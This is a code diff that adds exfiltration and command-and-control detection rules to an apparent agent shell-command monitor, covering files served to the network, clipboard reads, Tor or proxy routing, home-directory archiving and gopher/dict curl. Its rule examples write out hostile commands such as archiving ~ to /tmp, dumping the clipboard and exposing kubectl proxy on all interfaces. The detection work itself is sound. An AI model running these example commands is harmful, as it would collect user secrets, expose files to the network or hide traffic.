@@ -6,7 +6,8 @@
  */
 import type { Rule } from '../rule.js';
 import type { ShellCommand } from '../shell/model.js';
-import { CURL_VALUED, effectsOf, parseOpts, type Send } from '../effects/index.js';
+import { CURL_VALUED, effectsOf, opts, parseOpts, resolveIn, type Send } from '../effects/index.js';
+import { writtenText } from './idioms.js';
 
 /** localhost, 127/8, ::1, 0.0.0.0 and the Docker host alias: not another host. */
 export function isLoopbackHost(host: string): boolean {
@@ -104,6 +105,9 @@ export function legacyChannel(c: ShellCommand): boolean {
       return args.some((a) => !a.startsWith('-') && /[\w-]\.[\w-]/.test(a));
     case 'cancel':
       return args.some((a, i) => args[i - 1] === '-h' && /:\d+$/.test(a) && !isLoopbackHost(a.replace(/:\d+$/, '').toLowerCase()));
+    case 'curl':
+      // gopher:// and dict:// send the URL path verbatim as the bytes of a raw TCP connection
+      return args.some((a) => /^(?:gopher|dict):\/\/([^/:]+)/i.test(a) && !isLoopbackHost((/^\w+:\/\/([^/:]+)/.exec(a)?.[1] ?? '').toLowerCase()));
     default:
       return false;
   }
@@ -135,7 +139,198 @@ export function capturesScreen(c: ShellCommand): boolean {
   }
 }
 
+/** An address that listens on every interface (or on a routable one), not only this machine. */
+const isWildcardOrRemote = (host: string) => host === '' || host === '*' || /^(?:0\.0\.0\.0|::|\[::\])$/.test(host) || (!isLoopbackHost(host.toLowerCase()) && /^[\d.]+$|^\[/.test(host));
+
+/**
+ * True when a command serves files over HTTP to other machines (GTFOBins `upload` entries: the
+ * files are fetched from outside): `php -S 0.0.0.0:PORT`, `python -m http.server --bind 0.0.0.0`,
+ * code building a server with the handler on every interface (`TCPServer(("", P),
+ * SimpleHTTPRequestHandler)`), `ruby -run -e httpd`, `busybox httpd`, `kubectl proxy --address
+ * 0.0.0.0` (the cluster API, and `--www` files, to the network). `python -m http.server` with no
+ * bind address, the preview server developers start all day, is left alone.
+ */
+export function servesFiles(c: ShellCommand): boolean {
+  const args = c.argv.slice(1);
+  const name = c.name.toLowerCase();
+  if (/^php[0-9.]*$/.test(name)) {
+    const i = args.indexOf('-S');
+    return i >= 0 && isWildcardOrRemote((args[i + 1] ?? '').replace(/:\d+$/, ''));
+  }
+  if (/^python[0-9.]*$/.test(name)) {
+    const m = args.indexOf('-m');
+    if (m >= 0 && /^(?:http\.server|SimpleHTTPServer)$/.test(args[m + 1] ?? '')) {
+      const b = args.findIndex((a) => a === '--bind' || a === '-b');
+      return b >= 0 && isWildcardOrRemote(args[b + 1] ?? '');
+    }
+    const code = args.join(' ');
+    return /SimpleHTTPRequestHandler|http\.server|SimpleHTTPServer/.test(code) && /\(\s*\(\s*(?:""|''|["']0\.0\.0\.0["']|["']::["'])\s*,/.test(code);
+  }
+  if (/^ruby[0-9.]*$/.test(name)) return args.join(' ').includes('-run') && /(?:^|\s)-e\s+httpd\b|-run\s+-e\s*httpd\b/.test(args.join(' ')) && !args.some((a) => /^--bind-address=(?:127\.|localhost)/.test(a));
+  // busybox is stripped as a wrapper: its applet is the command (`busybox httpd -f -p 8080`)
+  const busybox = name === 'busybox' ? args[0] === 'httpd' : name === 'httpd' && c.wrappers.includes('busybox');
+  if (busybox) return !args.some((a, i) => args[i - 1] === '-p' && /^(?:127\.|localhost:|\[::1\])/.test(a));
+  if (name === 'kubectl' && args[0] === 'proxy') {
+    const a = args.find((x) => x.startsWith('--address='))?.slice(10) ?? args[args.indexOf('--address') + 1];
+    return args.some((x) => x === '--address' || x.startsWith('--address=')) && a !== undefined && isWildcardOrRemote(a);
+  }
+  return false;
+}
+
+/** True when a command reads the clipboard: pbpaste, xclip -o, xsel -o/--output, wl-paste,
+ * termux-clipboard-get, PowerShell Get-Clipboard or Clipboard::GetText, AppleScript `the clipboard`. */
+export function readsClipboard(c: ShellCommand): boolean {
+  const args = c.argv.slice(1);
+  switch (c.name.toLowerCase().replace(/\.exe$/, '')) {
+    case 'pbpaste':
+    case 'wl-paste':
+    case 'termux-clipboard-get':
+    case 'get-clipboard':
+    case 'gcb':
+      return !args.some((a) => a === '--help' || a === '-h');
+    case 'xclip':
+      return args.some((a) => /^-o(?:ut)?$/.test(a));
+    case 'xsel':
+      return args.some((a) => /^-[a-zA-Z]*o[a-zA-Z]*$|^--output$/.test(a));
+    case 'osascript':
+      return /\bthe clipboard\b/i.test(args.join(' ')) && !/\bset the clipboard\b/i.test(args.join(' '));
+    default:
+      return /\bClipboard\]::(?:GetText|GetData|GetImage|GetFileDropList)\b/i.test(writtenText(c));
+  }
+}
+
+/**
+ * True when traffic is routed through a proxy or Tor, or a port forwarded on the host: macOS
+ * networksetup -set…proxy, Windows netsh interface portproxy add / netsh winhttp set proxy, GNOME
+ * proxy settings, Tor started (tor, its service), a command run through proxychains, torsocks or
+ * torify. Setting http_proxy for one command is ordinary and is left alone.
+ */
+export function routesTraffic(c: ShellCommand): boolean {
+  const args = c.argv.slice(1);
+  const name = c.name.toLowerCase().replace(/\.exe$/, '');
+  if (c.wrappers.some((w) => /^(?:proxychains4?|torsocks|torify|tsocks)$/.test(w)) || /^(?:proxychains4?|torsocks|torify|tsocks)$/.test(name)) return true;
+  switch (name) {
+    case 'networksetup':
+      return args.some((a) => /^-set(?:web|secureweb|socksfirewall|ftp|streaming|gopher)proxy$|^-setautoproxyurl$/i.test(a));
+    case 'netsh':
+      return /\binterface\s+portproxy\s+(?:add|set)\b|\bwinhttp\s+set\s+proxy\b/i.test(args.join(' '));
+    case 'gsettings':
+      return args[0] === 'set' && /^org\.gnome\.system\.proxy/.test(args[1] ?? '');
+    case 'tor':
+      return !args.some((a) => /^--(?:version|help|hash-password|verify-config|list-\w+)$/.test(a));
+    case 'systemctl':
+    case 'service':
+    case 'rc-service':
+      return args.includes('tor') && args.some((a) => /^(?:start|enable|restart)$/.test(a));
+    case 'brew':
+      return args[0] === 'services' && /^(?:start|run|restart)$/.test(args[1] ?? '') && args[2] === 'tor';
+    case 'sysrc':
+      return args.some((a) => /^tor_enable=["']?YES/i.test(a));
+    default:
+      return false;
+  }
+}
+
+/** A user's whole home or profile directory, a variable naming one (`~/$USERNAME`), or the login
+ * records and authentication logs. */
+const COLLECTED_ROOT = /^(?:~|~\/\*|~\/\$\{?\w+\}?|\/root|\/home\/[^/]+|\/Users\/[^/]+|\/home|\/Users)\/?$|^\/var\/log\/(?:[wb]tmp|lastlog|auth\.log|secure|faillog)$|^\/var\/log\/?$/;
+const PROFILE = /^(?:\$env:USERPROFILE|%USERPROFILE%|\$HOME|C:[\\/]+Users(?:[\\/]+[^\\/*]+)?)(?:[\\/]+AppData(?:[\\/]+(?:Roaming|Local))?)?[\\/]*\*?$/i;
+
+/** The files an archiver packs (operands other than the archive it writes), or null for another program. */
+function archiveInputs(c: ShellCommand): string[] | null {
+  const args = c.argv.slice(1);
+  const name = c.name.toLowerCase();
+  if (name === 'tar' || name === 'bsdtar' || name === 'gtar') {
+    const first = args[0] ?? '';
+    if (!(/^-?[a-zA-Z]*c/.test(first) && !first.startsWith('--')) && !args.includes('--create')) return null;
+    const out: string[] = [];
+    for (let i = 0; i < args.length; i++) {
+      const a = args[i]!;
+      if (a.startsWith('-') || i === 0) {
+        // the archive after -f (or the f of the first bundle), and -C DIR, take a value
+        if (/^-?[a-zA-Z]*f$/.test(a) || a === '-C' || a === '--file' || a === '--directory') i++;
+        continue;
+      }
+      out.push(a);
+    }
+    return out;
+  }
+  if (name === 'zip') return opts(c).operands.slice(1);
+  if (/^(?:7z|7za|7zz|rar)$/.test(name)) return /^[au]$/.test(args[0] ?? '') ? args.slice(1).filter((a) => !a.startsWith('-')).slice(1) : null;
+  if (/^compress-archive$/.test(name)) {
+    // PowerShell paths as written: a backslash is a path separator there, not an escape
+    const words = (x: ShellCommand) => writtenText(x).split(/\s+/).slice(1).map((w) => w.replace(/^["']|["']$/g, ''));
+    const own = words(c);
+    const path = own.flatMap((a, i) => (/^-(?:Path|LiteralPath)$/i.test(own[i - 1] ?? '') ? [a] : []));
+    const fed = c.pipeline && c.stage > 0 ? words(c.pipeline.stages[c.stage - 1]!).filter((a) => !a.startsWith('-')) : [];
+    return [...path, ...fed];
+  }
+  return null;
+}
+
+/** True when a whole home or profile directory, or the login records, are packed into an archive. */
+export function archivesCollection(c: ShellCommand): boolean {
+  const inputs = archiveInputs(c);
+  return inputs !== null && inputs.some((p) => COLLECTED_ROOT.test(resolveIn(c.cwd, p).replace(/\/+$/, '') || '/') || PROFILE.test(p));
+}
+
 export const EXFIL_RULES: Rule[] = [
+  {
+    id: 'files-served-to-network',
+    name: 'Files served to other machines',
+    category: 'exfiltration',
+    action: 'record',
+    attack: 'T1048',
+    description: 'An HTTP server started on every interface to hand out files: php -S 0.0.0.0:PORT, python -m http.server --bind 0.0.0.0, code serving SimpleHTTPRequestHandler on ("", PORT), ruby -run -e httpd, busybox httpd, kubectl proxy --address 0.0.0.0. A plain python -m http.server (the preview server) does not fire.',
+    help: 'Anyone who can reach the machine can download the directory (or, through kubectl proxy, talk to the cluster API without credentials). Check what is served and to whom.',
+    examples: {
+      match: ['php -S 0.0.0.0:8080', 'ruby -run -e httpd . -p 8000', 'kubectl proxy --address=0.0.0.0 --accept-hosts=.*'],
+      not_match: ['php -S localhost:8000', 'python3 -m http.server 8000', 'kubectl proxy --port=8001'],
+    },
+    match: { command: servesFiles },
+  },
+  {
+    id: 'clipboard-read',
+    name: 'Clipboard read',
+    category: 'exfiltration',
+    action: 'record',
+    attack: 'T1115',
+    description: 'Reading the clipboard: pbpaste, xclip -o, xsel -o, wl-paste, termux-clipboard-get, PowerShell Get-Clipboard or [Clipboard]::GetText, AppleScript "the clipboard".',
+    help: 'The clipboard holds whatever the user copied last, often a password or a token. An agent has no need to read it; check why.',
+    examples: {
+      match: ['pbpaste > /tmp/c.txt', 'xclip -selection clipboard -o', 'Get-Clipboard'],
+      not_match: ['echo done | pbcopy', 'xclip -selection clipboard < key.pub', 'cat notes.txt'],
+    },
+    match: { command: readsClipboard },
+  },
+  {
+    id: 'traffic-proxied',
+    name: 'Traffic routed through a proxy or Tor',
+    category: 'command-and-control',
+    action: 'record',
+    attack: 'T1090',
+    description: 'The host\'s traffic sent through a proxy, a port forward or Tor: networksetup -setwebproxy/-setsecurewebproxy/-setsocksfirewallproxy, netsh interface portproxy add, netsh winhttp set proxy, gsettings org.gnome.system.proxy, tor or its service started, a command run through proxychains, torsocks or torify.',
+    help: 'A system proxy sees (and can change) every connection; Tor and port forwards hide where traffic goes. Check who asked for it.',
+    examples: {
+      match: ['networksetup -setwebproxy Wi-Fi 10.0.0.9 8080', 'netsh interface portproxy add v4tov4 listenport=8443 connectaddress=10.0.0.9 connectport=443', 'sudo systemctl start tor'],
+      not_match: ['networksetup -listallnetworkservices', 'HTTPS_PROXY=http://proxy.corp:3128 npm install', 'netsh interface show interface'],
+    },
+    match: { command: routesTraffic },
+  },
+  {
+    id: 'collection-archive',
+    name: 'Home directory or login records archived',
+    category: 'exfiltration',
+    action: 'record',
+    attack: 'T1560.001',
+    description: 'A whole home or profile directory (~, /home/USER, /Users/USER, /root, $env:USERPROFILE, AppData) or the login records and authentication logs (/var/log/wtmp, btmp, lastlog, auth.log, secure) packed with tar -c, zip, 7z a, rar a or Compress-Archive.',
+    help: 'Collecting everything a user has into one file is the step before sending it out. A project or build directory is not matched; check why the whole home is packed.',
+    examples: {
+      match: ['tar -czf /tmp/h.tgz ~', 'zip -r /tmp/u.zip /home/alice', 'Compress-Archive -Path $env:USERPROFILE -DestinationPath C:\\Temp\\p.zip'],
+      not_match: ['tar -czf dist.tgz ./build', 'zip -r site.zip ~/projects/site', 'tar -xzf ~/downloads/a.tgz'],
+    },
+    match: { command: archivesCollection },
+  },
   {
     id: 'screen-capture',
     name: 'Screen captured',
@@ -156,7 +351,7 @@ export const EXFIL_RULES: Rule[] = [
     category: 'exfiltration',
     action: 'record',
     attack: 'T1048',
-    description: 'A legacy protocol client pointed at a host to carry data either way: finger user@host, whois -h HOST -p PORT on a port other than 43, rlogin/rsh/rexec to a host, cancel -h HOST:PORT.',
+    description: 'A legacy protocol client pointed at a host to carry data either way: finger user@host, whois -h HOST -p PORT on a port other than 43, rlogin/rsh/rexec to a host, cancel -h HOST:PORT, curl gopher:// or dict:// (the URL path goes out as raw bytes).',
     help: 'These clients send what they are given and print what comes back, past filters that watch HTTP. Check the host and the data.',
     examples: {
       match: ['finger x@x.example', 'whois -h x.example -p 8443 data', 'rlogin -l x -p 12345 x.example'],
